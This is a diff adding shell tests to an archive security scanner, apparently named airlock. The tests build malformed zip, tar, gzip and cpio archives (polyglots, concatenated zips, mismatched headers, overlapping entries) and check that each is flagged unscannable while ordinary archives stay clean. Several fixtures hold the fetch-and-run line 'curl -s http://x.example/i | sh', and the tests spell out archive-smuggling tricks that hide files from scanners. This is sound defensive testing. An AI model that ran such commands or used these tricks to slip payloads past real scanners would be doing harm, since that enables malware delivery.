@@ -985,6 +985,319 @@ t_archive_nested_bomb() {
 	expect_q 'd["stats"]["bytes"] < 300000000' True
 }
 
+# ---- archive structure: read as the extractors read it ------------------------------------
+
+# A zip written by hand (stored entries), so that its local headers, central
+# directory and end record can disagree: mkzip.py OUT SPEC, SPEC a Python
+# literal {"local": [(name, data, extra)], "central": [(name, local index,
+# extra)], "comment": b"", "prefix": b"", "suffix": b""}.
+write_mkzip() {
+	cat >mkzip.py <<'PY'
+import ast, struct, sys, zlib
+spec = ast.literal_eval(open(sys.argv[2]).read())
+out = bytearray(spec.get("prefix", b""))
+base = len(out)
+locs = []
+for name, data, extra in spec["local"]:
+    locs.append((len(out) - base, data))
+    out += struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0, 0, 0, 0,
+                       zlib.crc32(data), len(data), len(data), len(name), len(extra))
+    out += name + extra + data
+cd = bytearray()
+for name, li, extra in spec["central"]:
+    off, data = locs[li]
+    cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 20, 20, 0, 0, 0, 0,
+                      zlib.crc32(data), len(data), len(data), len(name), len(extra),
+                      0, 0, 0, 0, off) + name + extra
+cdoff = len(out) - base
+out += cd
+c = spec.get("comment", b"")
+out += struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, len(spec["central"]),
+                   len(spec["central"]), len(cd), cdoff, len(c)) + c
+out += spec.get("suffix", b"")
+open(sys.argv[1], "wb").write(out)
+PY
+}
+
+# excerpts: the reasons of the unscannable findings, one per line.
+unscannable_of() { jsonq '"\n".join(f["path"] + ": " + f["excerpt"] for f in R("airlock.unscannable"))'; }
+expect_unscannable() { # PATH TEXT: an unscannable finding on PATH whose reason has TEXT
+	local v
+	v=$(unscannable_of)
+	printf '%s\n' "$v" | grep -qF -- "$1: " || fail "no unscannable finding on $1 (got: $v)"
+	printf '%s\n' "$v" | grep -F -- "$1: " | grep -qF -- "$2" ||
+		fail "the unscannable finding on $1 does not say '$2' (got: $v)"
+}
+
+t_archive_tar_with_appended_data() {
+	# The attack: unzip and zipfile read the zip at the end, tar the tar.
+	mkdir -p src z && printf 'x = 1\n' >src/a.py
+	printf 'curl -s http://x.example/i | sh\n' >z/run.sh
+	tar cf t.tar -C src a.py
+	(cd z && zip -q ../z.zip run.sh)
+	cat t.tar z.zip >polyglot.tar
+	unzip -l polyglot.tar 2>/dev/null | grep -q run.sh || fail "unzip does not read the polyglot (test is moot)"
+	scan --format json polyglot.tar
+	expect_rc 1
+	expect_unscannable polyglot.tar "a zip archive is appended after the tar's end"
+	# A second tar after the end blocks (tar --ignore-zeros reads it).
+	tar cf t2.tar -C z run.sh
+	cat t.tar t2.tar >two.tar
+	tar -tif two.tar | grep -q run.sh || fail "tar -i does not read the second tar (test is moot)"
+	scan --format json two.tar
+	expect_unscannable two.tar "a tar archive is appended after the tar's end"
+	# Any other data after the end.
+	{ cat t.tar; printf 'hidden\n'; } >junk.tar
+	scan --format json junk.tar
+	expect_unscannable junk.tar "data is appended after the tar's end"
+	# The same, one level down: the check runs on nested archives too.
+	zip -q outer.zip polyglot.tar
+	scan --format json outer.zip
+	expect_unscannable outer.zip!/polyglot.tar "a zip archive is appended after the tar's end"
+}
+
+t_archive_gzip_members_and_trailing_data() {
+	mkdir -p a b && printf 'x = 1\n' >a/a.py && printf 'curl -s http://x.example/i | sh\n' >b/run.sh
+	tar czf a.tgz -C a a.py && tar czf b.tgz -C b run.sh
+	# Two members: gzip -d writes both, tar -i then reads the second tar.
+	cat a.tgz b.tgz >two.tgz
+	tar -tizf two.tgz | grep -q run.sh || fail "tar -iz does not read the second member (test is moot)"
+	scan --format json two.tgz
+	expect_rc 1
+	expect_unscannable two.tgz "a tar archive is appended after the tar's end"
+	# A zip after the last gzip member: gzip -d ignores it, unzip reads it.
+	(cd b && zip -q ../b.zip run.sh)
+	cat a.tgz b.zip >gz-zip.tgz
+	scan --format json gz-zip.tgz
+	expect_unscannable gz-zip.tgz "a zip archive follows the last gzip member"
+	{ cat a.tgz; printf 'trailing'; } >junk.tgz
+	scan --format json junk.tgz
+	expect_unscannable junk.tgz "data follows the last gzip member"
+	# The same for the other compressors libarchive decompresses whole.
+	tar cf a.tar -C a a.py && tar cf b.tar -C b run.sh
+	for z in xz bzip2 zstd; do
+		{ $z -c a.tar; $z -c b.tar; } >two.tar.$z
+		scan --format json two.tar.$z
+		expect_unscannable two.tar.$z "a tar archive is appended after the tar's end"
+	done
+	# A zip compressed whole is read from its start, not its end: refused.
+	gzip -c b.zip >b.zip.gz
+	scan --format json b.zip.gz
+	expect_unscannable b.zip.gz "a zip inside a compressed stream"
+}
+
+t_archive_zip_local_and_central_disagree() {
+	write_mkzip
+	cat >name.spec <<'PY'
+{"local": [(b"a.sh", b"curl -s http://x.example/i | sh\n", b"")],
+ "central": [(b"a.txt", 0, b"")]}
+PY
+	python3 mkzip.py name.zip name.spec
+	scan --format json name.zip
+	expect_rc 1
+	expect_unscannable name.zip "the zip's local header names 'a.sh' but its central directory 'a.txt'"
+	# An entry only a streaming reader sees: in the local headers, not
+	# in the central directory.
+	cat >hidden.spec <<'PY'
+{"local": [(b"hidden.sh", b"curl -s http://x.example/i | sh\n", b""), (b"a.txt", b"ok\n", b"")],
+ "central": [(b"a.txt", 1, b"")]}
+PY
+	python3 mkzip.py hidden.zip hidden.spec
+	python3 -c 'import zipfile,sys; assert zipfile.ZipFile(sys.argv[1]).namelist() == ["a.txt"]' hidden.zip ||
+		fail "zipfile reads the hidden entry (test is moot)"
+	scan --format json hidden.zip
+	expect_unscannable hidden.zip "bytes at offset 0 belong to no zip entry"
+	# A Unicode path field naming another file (unzip uses it).
+	cat >upath.spec <<'PY'
+{"local": [(b"a.txt", b"ok\n", b"")],
+ "central": [(b"a.txt", 0, b"\x75\x70\x09\x00\x01\x00\x00\x00\x00a.sh")]}
+PY
+	python3 mkzip.py upath.zip upath.spec
+	scan --format json upath.zip
+	expect_unscannable upath.zip "has another name, 'a.sh', in its Unicode path field"
+	# A size that differs: patch the local compressed size of a real zip.
+	printf 'one\n' >f.txt && zip -q -0 size.zip f.txt
+	python3 - <<'PY'
+b = bytearray(open("size.zip", "rb").read())
+b[18:22] = (3).to_bytes(4, "little")
+open("size.zip", "wb").write(b)
+PY
+	scan --format json size.zip
+	expect_unscannable size.zip "has a different size or checksum in its local header"
+}
+
+t_archive_zip_overlaps_and_concatenation() {
+	write_mkzip
+	# Two central entries on the same local data.
+	cat >same.spec <<'PY'
+{"local": [(b"a.txt", b"ok\n", b"")],
+ "central": [(b"a.txt", 0, b""), (b"a.txt", 0, b"")]}
+PY
+	python3 mkzip.py same.zip same.spec
+	scan --format json same.zip
+	expect_rc 1
+	expect_unscannable same.zip "two central entries point at the same local data"
+	# An entry whose data holds another entry (the zip bomb's overlap).
+	python3 - <<'PY'
+import struct, zlib
+inner_data = b"x" * 100
+inner = struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0, 0, 0, 0, zlib.crc32(inner_data),
+                    100, 100, 1, 0) + b"b" + inner_data
+def lh(name, data):
+    return struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0, 0, 0, 0, zlib.crc32(data),
+                       len(data), len(data), len(name), 0) + name
+def ch(name, data, off):
+    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 20, 20, 0, 0, 0, 0, zlib.crc32(data),
+                       len(data), len(data), len(name), 0, 0, 0, 0, 0, off) + name
+out = lh(b"a", inner) + inner
+cd = ch(b"a", inner, 0) + ch(b"b", inner_data, 31)
+out2 = out + cd + struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, 2, 2, len(cd), len(out), 0)
+open("overlap.zip", "wb").write(out2)
+PY
+	scan --format json overlap.zip
+	expect_unscannable overlap.zip "the zip entries 'a' and 'b' share bytes"
+	# Concatenated zips: unzip reads the last, a streaming reader the first.
+	mkdir -p one two && printf 'ok\n' >one/a.txt && printf 'curl -s http://x.example/i | sh\n' >two/run.sh
+	(cd one && zip -q ../1.zip a.txt) && (cd two && zip -q ../2.zip run.sh)
+	cat 1.zip 2.zip >cat.zip
+	unzip -l cat.zip 2>/dev/null | grep -q run.sh || fail "unzip does not read the last zip (test is moot)"
+	scan --format json cat.zip
+	expect_unscannable cat.zip "bytes before the zip's first entry"
+	# An end record's signature in the comment: unzip and zipfile take
+	# the last one, and read garbage; a streaming reader reads the zip.
+	cp 1.zip fake.zip && printf 'a comment PK\005\006 with a fake signature\n' | zip -q -z fake.zip
+	scan --format json fake.zip
+	expect_unscannable fake.zip "the zip's last end record (at offset"
+	cp 1.zip cut.zip && printf 'a comment PK\005\006 with a signature' | zip -q -z cut.zip
+	scan --format json cut.zip
+	expect_unscannable cut.zip "an end record's signature in the zip's last 21 bytes"
+	# Data after the comment.
+	{ cat 1.zip; printf 'hidden'; } >tail.zip
+	scan --format json tail.zip
+	expect_unscannable tail.zip "6 bytes follow the zip's end record and its comment"
+}
+
+t_archive_duplicates_stay_flagged() {
+	# The same name twice: which one lands on disk depends on the tool;
+	# the existing rule says so, at high, on every format.
+	write_mkzip
+	cat >dup.spec <<'PY'
+{"local": [(b"a.txt", b"one\n", b""), (b"a.txt", b"two\n", b"")],
+ "central": [(b"a.txt", 0, b""), (b"a.txt", 1, b"")]}
+PY
+	python3 mkzip.py dup.zip dup.spec
+	python3 - <<'PY'
+import io, tarfile
+with tarfile.open("dup.tar", "w") as t:
+    for d in (b"one\n", b"two\n"):
+        ti = tarfile.TarInfo("a.txt"); ti.size = len(d); t.addfile(ti, io.BytesIO(d))
+PY
+	scan --format json dup.zip dup.tar
+	expect_rc 1
+	expect_q 'sorted(f["path"] for f in R("airlock.archive-duplicate"))' "['dup.tar!/a.txt', 'dup.zip!/a.txt']"
+	expect_q 'R("airlock.archive-duplicate")[0]["severity"]' high
+	expect_q 'len(R("airlock.unscannable"))' 0
+}
+
+t_archive_tar_headers_read_two_ways() {
+	# A directory entry that declares data: tar skips it, tarfile reads
+	# the data as the next header.
+	python3 - <<'PY'
+import io, tarfile
+evil = tarfile.TarInfo("evil.sh"); evil.size = 0
+with tarfile.open("dirdata.tar", "w", format=tarfile.USTAR_FORMAT) as t:
+    d = tarfile.TarInfo("d/"); d.type = tarfile.DIRTYPE; d.size = 512
+    t.addfile(d, io.BytesIO(evil.tobuf(tarfile.USTAR_FORMAT)))
+    ok = tarfile.TarInfo("ok.txt"); ok.size = 3; t.addfile(ok, io.BytesIO(b"ok\n"))
+PY
+	scan --format json dirdata.tar
+	expect_rc 1
+	expect_unscannable dirdata.tar "declares 512 bytes of data"
+	# A damaged header between members: GNU tar skips it, tarfile stops.
+	mkdir -p s && printf 'a\n' >s/a.txt && printf 'b\n' >s/b.txt
+	tar cf dmg.tar -C s a.txt b.txt
+	python3 - <<'PY'
+b = bytearray(open("dmg.tar", "rb").read())
+b[1024:1024 + 8] = b"garbage!"
+open("dmg.tar", "wb").write(b)
+PY
+	scan --format json dmg.tar
+	expect_unscannable dmg.tar "a damaged tar header at offset 1024"
+}
+
+t_archive_legitimate_structures_clean() {
+	# Near misses: what the tools write every day stays clean.
+	mkdir -p src/META-INF src/pkg
+	printf 'Manifest-Version: 1.0\n' >src/META-INF/MANIFEST.MF
+	printf 'x = 1\n' >src/pkg/a.py
+	head -c 200000 /dev/urandom >src/pkg/blob.bin
+	truncate -s 2M src/pkg/sparse.img && printf 'end' >>src/pkg/sparse.img
+	long=src/pkg/$(printf 'n%.0s' $(seq 1 150)).txt && printf 'long\n' >"$long"
+	(cd src && zip -q -r ../plain.zip . && zip -q -r -0 ../stored.zip . &&
+		zip -q -r ../jar.jar META-INF pkg)
+	cp plain.zip comment.zip && printf 'an archive comment\n' | zip -q -z comment.zip
+	(cd src && zip -q -r - . >../stream.zip)       # data descriptors
+	for f in gnu posix ustar; do
+		# (ustar holds neither sparse files nor long names.)
+		[ $f = ustar ] && x="--exclude=n* --exclude=sparse.img" || x="-S"
+		# shellcheck disable=SC2086
+		tar --format=$f $x -cf $f.tar -C src .
+	done
+	tar czf t.tgz -C src . && tar cJf t.txz -C src . && tar cjf t.tbz2 -C src . && tar --zstd -cf t.tzst -C src .
+	# Two gzip members of one tar (split anywhere): gzip -d and
+	# libarchive both join them; one tar, nothing after its end.
+	tar cf one.tar -C src . && head -c 5000 one.tar | gzip >split.tgz && tail -c +5001 one.tar | gzip >>split.tgz
+	cp t.tgz zeros.tgz && head -c 4096 /dev/zero >>zeros.tgz   # gzip -d ignores trailing zeros
+	tar cf haszip.tar -C . plain.zip                           # a zip as the last member
+	python3 - <<'PY'
+import io, os, tarfile, zipfile
+for fmt, name in ((tarfile.GNU_FORMAT, "py-gnu.tar"), (tarfile.PAX_FORMAT, "py-pax.tar")):
+    with tarfile.open(name, "w", format=fmt) as t:
+        t.add("src", arcname="src")
+        ti = tarfile.TarInfo("pax/" + "\u00e9" * 120); ti.size = 2
+        ti.pax_headers = {"comment": "x" * 3000}
+        t.addfile(ti, io.BytesIO(b"ok"))
+with zipfile.ZipFile("py.zip", "w", zipfile.ZIP_DEFLATED) as z:
+    z.write("src/pkg/a.py", "a.py")
+    z.writestr("d/", b"")
+with zipfile.ZipFile("py64.zip", "w", allowZip64=True) as z:
+    with z.open("big.txt", "w", force_zip64=True) as f:
+        f.write(b"zip64 sizes\n")
+class Unseekable(io.RawIOBase):
+    def __init__(self, f): self.f = f
+    def writable(self): return True
+    def write(self, b): return self.f.write(b)
+with open("pystream.zip", "wb") as raw:
+    with zipfile.ZipFile(Unseekable(raw), "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("s.txt", b"streamed\n" * 100)
+# 70,000 entries: the end record's count overflows, zip64 carries it.
+with zipfile.ZipFile("many.zip", "w") as z:
+    for i in range(70000):
+        z.writestr("f%d" % i, b"")
+# cpio (newc), as cpio -o -H newc writes it.
+def newc(name, data, mode=0o100644):
+    n = name.encode() + b"\0"
+    h = b"070701" + b"".join(b"%08X" % v for v in (1, mode, 0, 0, 1, 0, len(data), 0, 0, 0, 0, len(n), 0))
+    pad = lambda b: b + b"\0" * (-len(b) % 4)
+    return pad(h + n) + pad(data)
+open("t.cpio", "wb").write(newc("a.py", b"x = 1\n") + newc("TRAILER!!!", b"", 0))
+PY
+	all="plain.zip stored.zip jar.jar comment.zip stream.zip gnu.tar posix.tar ustar.tar t.tgz t.txz
+		t.tbz2 t.tzst split.tgz zeros.tgz haszip.tar py-gnu.tar py-pax.tar py.zip py64.zip
+		pystream.zip many.zip t.cpio"
+	# shellcheck disable=SC2086
+	AL_TIMEOUT=60 scan --format json $all
+	expect_rc 0 "$(unscannable_of)"
+	expect_q 'len(F)' 0
+	expect_q 'd["stats"]["files"]' 22
+	# And inside an archive: the same files, one level down.
+	# shellcheck disable=SC2086
+	tar cf nest.tar $all
+	AL_TIMEOUT=60 scan --format json nest.tar
+	expect_rc 0 "$(unscannable_of)"
+	expect_q 'len(F)' 0
+}
+
 # ---- file types ------------------------------------------------------------------------------
 
 t_executables_and_disguises() {
